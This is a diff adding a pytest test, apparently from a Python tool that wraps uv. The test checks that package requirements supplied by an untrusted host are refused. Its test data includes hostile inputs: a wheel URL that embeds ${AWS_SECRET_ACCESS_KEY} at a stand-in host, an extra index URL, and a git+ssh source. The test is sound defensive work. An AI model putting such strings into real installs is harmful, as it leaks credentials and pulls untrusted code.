@@ -58,6 +58,26 @@ def test_a_host_alone_chooses_no_program_for_the_others() -> None:
     assert find(Install(with_=("colour @ file:///colour-2-py3-none-any.whl",)), evil, ENV) is not None
 
 
+@pytest.mark.parametrize(
+    "told",
+    [
+        "-e /shared/project",
+        "--extra-index-url=https://elsewhere.example/simple",
+        "colour @ https://elsewhere.example/${AWS_SECRET_ACCESS_KEY}/colour-1-py3-none-any.whl",
+        "/shared/project",
+        "colour @ git+ssh://elsewhere.example/colour",
+    ],
+)
+def test_a_host_gives_uv_no_options_variables_or_projects(told: str) -> None:
+    """uv built the project here, took packages of that index, and asked for a URL with the variable's value in it."""
+    evil = replace(ENV, requested=("tabulate", told))
+    with pytest.raises(UsageError, match="not taken from a host's word") as refused:
+        extend.keep_requirements(evil, Install(with_=("tqdm",)))
+    assert (refused.value.reasons, refused.value.exit) == ((told,), Exit.STEP)
+    with pytest.raises(UsageError, match="not taken from a host's word"):
+        extend.keep_environment(Install(torch="2.13.0"), StackRequest(torch="2.13.0"), evil)
+
+
 def test_an_environment_of_thousands_of_places_takes_no_square_of_their_number() -> None:
     """15 s for 309 kB, and a host may say a megabyte."""
     begun = time.process_time()
